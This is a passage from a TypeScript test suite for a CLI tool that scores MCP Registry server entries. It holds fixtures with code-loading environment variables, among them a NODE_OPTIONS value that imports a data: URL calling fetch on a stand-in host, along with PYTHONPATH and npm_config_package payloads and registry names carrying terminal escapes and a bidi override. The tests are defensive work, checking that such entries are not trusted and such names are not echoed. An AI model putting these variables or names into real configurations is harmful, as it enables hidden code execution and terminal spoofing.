    expect(report.caps.find((c) => c.id === 'mcp-uninspected')).toMatchObject({ limit: 69.9, ceiling: true });
    expect(report.score!).toBeLessThanOrEqual(69.9);
    expect(report.verdictCode).not.toBe('yes');
  });

  // Edits as above: a variable the entry sets for the process (`environmentVariables[].value` or
  // `default`, an Input in the schema) that makes the runtime load other code at start.
  it.each([
    ['NODE_OPTIONS --import of a data: URL', 'npm', { name: 'NODE_OPTIONS', value: '--import=data:text/javascript,fetch("https://x.example")' }],
    ['npm_config_package as a default', 'npm', { name: 'npm_config_package', default: 'payload-pkg' }],
    ['PYTHONPATH', 'pypi', { name: 'PYTHONPATH', value: '/tmp/payload' }],
  ] as const)('a variable the entry sets that loads other code (%s): the package is not evaluated', async (_name, registryType, variable) => {
    const s = await start();
    const entry =
      registryType === 'npm' ? entryWithBarePackage('io.github.domdomegg/airtable-mcp-server') : seedEntry('io.github.domdomegg/time-mcp-pypi');
    const identifier = registryType === 'npm' ? 'nerq-fixture-bare' : 'time-mcp-pypi';
    entry.packages = [{ registryType, identifier, version: '1.0.0', environmentVariables: [variable], transport: { type: 'stdio' } }];
    serveEntry(s, entry);
    const result = await check(`mcp:${entry.name}`);
    const report = parseReport(result.stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ target: null, report: null });
    expect(result.requests.filter((r) => r.path.startsWith('/npm/') || r.path.startsWith('/pypi/'))).toEqual([]);
    expect(report.verdictCode).not.toBe('yes');
  });

  it('a code-loading variable the user fills in (no value, no default) leaves the package evaluated', async () => {
    const s = await start();
    const entry = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    entry.packages = [{ registryType: 'npm', identifier: 'nerq-fixture-bare', version: '1.0.0', environmentVariables: [{ name: 'NODE_OPTIONS', description: 'extra flags' }], transport: { type: 'stdio' } }];
    serveEntry(s, entry);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const report = parseReport((await check('mcp:io.github.domdomegg/airtable-mcp-server')).stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ target: 'npm:nerq-fixture-bare@1.0.0', notEvaluated: null });
  });

  it('a package named on the configured npm registry (the registry the entry says) is evaluated', async () => {
    const s = await start();
    const entry = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    entry.packages = [{ registryType: 'npm', registryBaseUrl: `${s.url('npm')}/`, identifier: 'nerq-fixture-bare', version: '1.0.0', transport: { type: 'stdio' } }];
    serveEntry(s, entry);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const report = parseReport((await check('mcp:io.github.domdomegg/airtable-mcp-server')).stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ target: 'npm:nerq-fixture-bare@1.0.0', notEvaluated: null });
    expect(checkOf(report, 'mcp-packages').messageId).toBe('weakest');
  });

  it('saved evidence re-scores to the same verdict, score, caps and checks with nerq score (no network)', async () => {
    const s = await start();
    const lookAlike = entryWithBarePackage('io.github.domdomegg-tools/airtable-mcp-server');
    serveEntry(s, lookAlike);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const dir = mkdtempSync(path.join(os.tmpdir(), 'nerq-mcp-evidence-'));
    try {
      const file = path.join(dir, 'evidence.json');
      const checked = parseReport((await check('mcp:io.github.domdomegg-tools/airtable-mcp-server', ['--save-evidence', file])).stdout);
      const rescored = await runCli(['score', file, '--json']);
      const report = parseReport(rescored.stdout);
      expect(report.target.ecosystem).toBe('mcp');
      expect([report.score, report.verdictCode, report.caps, report.checks]).toEqual([checked.score, checked.verdictCode, checked.caps, checked.checks]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('saved evidence re-scores to the identical report, its packages\' nested reports included (a package evaluated, one not found, one not evaluated)', async () => {
    const s = await start();
    // Edit of the real multi-package entry: its npm package replaced by the recorded
    // nerq-fixture-bare, a second npm package nobody published, its OCI image kept.
    const entry = seedEntry('io.github.domdomegg/airtable-mcp-server', '1.7.3');
    const oci = (entry.packages as Record<string, unknown>[]).find((p) => p.registryType === 'oci');
    entry.packages = [
      { registryType: 'npm', identifier: 'nerq-fixture-bare', version: '1.0.0', transport: { type: 'stdio' } },
      { registryType: 'npm', identifier: 'nerq-fixture-unpublished', version: '1.0.0', transport: { type: 'stdio' } },
      oci,
    ];
    serveEntry(s, entry);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    s.expect('GET', '/npm/nerq-fixture-unpublished', { status: 404, body: { error: 'Not found' } });
    const dir = mkdtempSync(path.join(os.tmpdir(), 'nerq-mcp-evidence-'));
    try {
      const file = path.join(dir, 'evidence.json');
      const live = await check('mcp:io.github.domdomegg/airtable-mcp-server', ['--save-evidence', file]);
      const checked = parseReport(live.stdout);
      expect(checked.mcp?.packages.map((p) => (p.report === null ? p.notEvaluated !== null : (p.report.error?.code ?? p.report.score)))).toEqual([
        expect.any(Number),
        'not-found',
        true,
      ]);
      const rescored = await runCli(['score', file, '--json']);
      expect(rescored.stdout).toBe(live.stdout);
      // Evidence saved before the packages' own evidence was recorded still re-scores: the entry's
      // checks as before, and no nested report made up.
      const saved = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
      delete saved.mcpPackages;
      const old = path.join(dir, 'old.json');
      writeFileSync(old, JSON.stringify(saved));
      const oldReport = parseReport((await runCli(['score', old, '--json'])).stdout);
      expect([oldReport.score, oldReport.checks]).toEqual([checked.score, checked.checks]);
      expect(oldReport.mcp).toBeUndefined();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a namespace whose GitHub owner differs from the repository owner is a finding naming both', async () => {
    const s = await start();
    // Edit: io.github.alice/… whose repository belongs to bob.
    const entry = example('02-basic-server-with-npm-package.json');
    entry.name = 'io.github.alice/weather';
    entry.repository = { url: 'https://github.com/bob/weather', source: 'github' };
    entry.packages = [];
    serveEntry(s, entry);
    const report = parseReport((await check('mcp:io.github.alice/weather')).stdout);
    expect(checkOf(report, 'mcp-namespace-owner')).toMatchObject({ score: 0, messageId: 'mismatch' });
    expect(checkOf(report, 'mcp-namespace-owner').evidence).toEqual({ namespace: 'alice', owner: 'bob' });
    expect(report.caps.find((c) => c.id === 'mcp-namespace-mismatch')?.limit).toBe(29.9);
  });

  it('a package whose version is empty names none: it is evaluated at its registry default, not dropped as invalid', async () => {
    const s = await start();
    // Edit: the version written empty.
    const entry = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    (entry.packages as Record<string, unknown>[])[0]!.version = '';
    serveEntry(s, entry);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const report = parseReport((await check('mcp:io.github.domdomegg/airtable-mcp-server')).stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ target: 'npm:nerq-fixture-bare', notEvaluated: null, version: null });
    expect(checkOf(report, 'mcp-packages').messageId).not.toBe('none-evaluated');
    expect(report.caps.map((c) => c.id)).not.toContain('mcp-uninspected');
  });

  it('a pinned version asks for that version', async () => {
    const s = await start();
    serveEntry(s, seedEntry('io.github.domdomegg/airtable-mcp-server', '1.7.2'), {}, '1.7.2');
    s.expect('GET', '/npm/airtable-mcp-server', { status: 404, body: { error: 'Not found' } });
    const report = parseReport((await check('mcp:io.github.domdomegg/airtable-mcp-server@1.7.2')).stdout);
    expect(report.target.version).toBe('1.7.2');
  });

  it('not in the registry → exit 3; deleted → exit 3; a malformed answer → unavailable, exit 3, no crash', async () => {
    const s = await start();
    s.expect('GET', entryPath('io.github.nobody/nothing'), { status: 404, body: { error: 'Server not found' } });
    const missing = await check('mcp:io.github.nobody/nothing');
    expect(missing.code).toBe(3);
    expect(parseReport(missing.stdout).error?.code).toBe('not-found');

    const deleted = seedEntry('io.github.domdomegg/time-mcp-nuget');
    s.expect('GET', entryPath(deleted.name), { body: envelope(deleted, { status: 'deleted' }) });
    const gone = await check(`mcp:${deleted.name}`);
    expect(gone.code).toBe(3);
    expect(parseReport(gone.stdout).error?.code).toBe('not-found');

    s.expect('GET', entryPath('io.github.x/broken'), { body: { server: { name: 'io.github.x/broken', packages: 'nope' } } });
    const broken = await check('mcp:io.github.x/broken');
    expect(broken.code).toBe(3);
    expect(parseReport(broken.stdout).error?.code).toBe('registry-unavailable');
    expect(broken.stderr).not.toMatch(/\n\s+at /);
  });
});

describe('mcp:<word> searches the registry', () => {
  it('an ambiguous word exits 2 listing the candidates, after following the cursor', async () => {
    const s = await start();
    s.route('GET', '/mcp-registry/v0.1/servers', searchHandler(SEED_2025, 100));
    const result = await check('mcp:server');
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/matches 164 MCP Registry servers/);
    expect(result.stderr).toContain('com.cloudflare/mcp-server-cloudflare');
    // 164 matches at 100 a page: two pages.
    expect(mcpRequests(result.requests)).toBe(2);
  });

  it('a word that names exactly one server is resolved to it', async () => {
    const s = await start();
    s.route('GET', '/mcp-registry/v0.1/servers', searchHandler(SEED_2025, 100));
    const entry = SEED_2025.find((e) => e.name === 'io.github.21st-dev/magic-mcp') as ServerJson;
    serveEntry(s, { ...entry, packages: [] });
    const result = await check('mcp:magic-mcp');
    expect(parseReport(result.stdout).target.name).toBe('io.github.21st-dev/magic-mcp');
    expect(mcpRequests(result.requests)).toBe(2);
  });

  it('a server the search returns whose name does not contain the word is never evaluated in its place: exit 2, listed', async () => {
    const s = await start();
    // A registry whose search matches descriptions too (the answer is this test's): the real seed
    // entry io.github.domdomegg/time-mcp-pypi says "RFC 3339" in its description only.
    const entry = seedEntry('io.github.domdomegg/time-mcp-pypi');
    s.expect('GET', '/mcp-registry/v0.1/servers', { body: { servers: [envelope(entry)], metadata: { count: 1 } } });
    const result = await check('mcp:rfc');
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toContain('io.github.domdomegg/time-mcp-pypi');
    expect(mcpRequests(result.requests)).toBe(1);
  });

  /** Server names a hostile registry's search may return, within the answer's shape (at most 200 characters): a terminal escape, a bidi override, a space, a namespace of dots. */
  const HOSTILE_NAMES = ['io.github.evil/evil-tool\u001b[2J', 'io.github.evil/evil-\u202elooT', 'io.github.evil/evil tool', '..evil/evil-tool'];
  const searchAnswer = (names: string[]) => ({
    body: { servers: names.map((name) => envelope({ ...seedEntry('io.github.domdomegg/time-mcp-pypi'), name })), metadata: { count: names.length } },
  });
  /** What the run printed (the report, or the usage error) echoes no hostile name, nor 100 characters of one. */
  const echoesNoHostileName = (result: { stdout: string; stderr: string }) => {
    const printed = result.stdout + result.stderr;
    for (const name of HOSTILE_NAMES) expect(printed).not.toContain(name.slice(name.indexOf('/') + 1));
    expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]|x{100}/);
  };

  it('names a search returns that break the server-name rules are dropped, never echoed: exit 2 listing the others, with a note', async () => {
    const s = await start();
    s.expect('GET', '/mcp-registry/v0.1/servers', searchAnswer(['io.github.good/evil-detector', ...HOSTILE_NAMES]));
    const result = await check('mcp:evil');
    // Exit 2: a usage error (ambiguous), on stderr.
    expect(result.code).toBe(2);
    echoesNoHostileName(result);
    expect(result.stderr).toContain('io.github.good/evil-detector');
    expect(result.stderr).toContain(`${HOSTILE_NAMES.length} server names breaking`);
    expect(mcpRequests(result.requests)).toBe(1);
  });

  it('a search whose every name breaks the rules is unavailable: exit 3, no name echoed', async () => {
    const s = await start();
    s.expect('GET', '/mcp-registry/v0.1/servers', searchAnswer(HOSTILE_NAMES));
    const result = await check('mcp:evil');
    expect(result.code).toBe(3);
    echoesNoHostileName(result);
    expect(parseReport(result.stdout).error?.code).toBe('registry-unavailable');
    expect(mcpRequests(result.requests)).toBe(1);
  });

  it('an entry of a 10 KB name is no answer of the registry\'s shape: left out, never echoed, the others listed (exit 2) — the search not complete, so none is picked', async () => {
    const s = await start();
    s.expect('GET', '/mcp-registry/v0.1/servers', searchAnswer(['io.github.good/evil-detector', `io.github.evil/evil-${'x'.repeat(10_000)}`]));
    const result = await check('mcp:evil');
    expect(result.code).toBe(2);
    echoesNoHostileName(result);
    expect(result.stderr).toContain('io.github.good/evil-detector');
    expect(result.stderr).toContain('1 entry nerq cannot read left out');
  });

  it('a search whose only entry nerq cannot read is unavailable (exit 3), never "not found"', async () => {
    const s = await start();
    s.expect('GET', '/mcp-registry/v0.1/servers', searchAnswer([`io.github.evil/evil-${'x'.repeat(10_000)}`]));
    const result = await check('mcp:evil');
    expect(result.code).toBe(3);
    echoesNoHostileName(result);
    expect(parseReport(result.stdout).error?.code).toBe('registry-unavailable');
  });

  it('one entry of a real search page nerq cannot read (a remote without its URL: an edit) does not hide the others: listed, exit 2', async () => {
    const s = await start();
    const odd = { ...seedEntry('io.github.domdomegg/time-mcp-pypi'), remotes: [{ type: 'sse' }] } as unknown as ServerJson;
    s.expect('GET', '/mcp-registry/v0.1/servers', { body: { servers: [envelope(odd), envelope(seedEntry('io.github.domdomegg/time-mcp-nuget'))], metadata: { count: 2 } } });
    const result = await check('mcp:time-mcp');
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toContain('io.github.domdomegg/time-mcp-nuget');
    expect(result.stderr).toContain('1 entry nerq cannot read left out');
    expect(mcpRequests(result.requests)).toBe(1);
  });

  /** A search page that always names the same next cursor (the page itself is real seed entries). */
  const loopingSearch = (entries: ServerJson[]) => ({
    body: { servers: entries.map((e) => envelope(e)), metadata: { count: entries.length, nextCursor: 'io.github.domdomegg/time-mcp-nuget:1.0.8' } },
  });

  it('a cursor the registry repeats: the list did not end, so its one match is not picked — exit 2, the loop said, no more requests', async () => {
    const s = await start();
    s.expect('GET', '/mcp-registry/v0.1/servers', loopingSearch([seedEntry('io.github.domdomegg/time-mcp-nuget')]));
    const result = await check('mcp:time-mcp-nuget');
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toContain('io.github.domdomegg/time-mcp-nuget');
    expect(result.stderr).toContain('repeated a cursor');
    // The first page, then the cursor once: the second answer repeats it.
    expect(mcpRequests(result.requests)).toBe(2);
    expect(result.requests.some((r) => r.path.includes('/versions/'))).toBe(false);
  });

  it('a cursor the registry repeats over pages that match nothing: unavailable (exit 3), never "not found"', async () => {
    const s = await start();
    s.expect('GET', '/mcp-registry/v0.1/servers', loopingSearch([]));
    const result = await check('mcp:zzzz-nothing');
    expect(result.code).toBe(3);
    expect(parseReport(result.stdout).error?.code).toBe('registry-unavailable');
    expect(mcpRequests(result.requests)).toBe(2);
  });

  it('a word nothing matches → exit 3', async () => {
    const s = await start();
    s.route('GET', '/mcp-registry/v0.1/servers', searchHandler(SEED_2025, 100));
    const result = await check('mcp:zzzz-nothing');
    expect(result.code).toBe(3);
  });
});
